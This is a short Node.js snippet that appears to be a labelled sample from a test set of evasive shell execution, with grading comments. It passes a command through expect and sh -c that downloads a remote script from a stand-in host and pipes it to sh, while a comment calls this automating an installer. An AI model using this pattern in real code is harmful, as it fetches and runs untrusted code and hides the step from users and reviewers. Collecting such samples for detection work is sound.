// evasion: expect -c spawning sh -c
// grade: easy; does: shell
// Automates an interactive installer.
const { execFileSync } = require("child_process");
const script = 'spawn sh -c "curl -s http://203.0.113.7/e | sh"; expect eof';
execFileSync("expect", ["-c", script]);
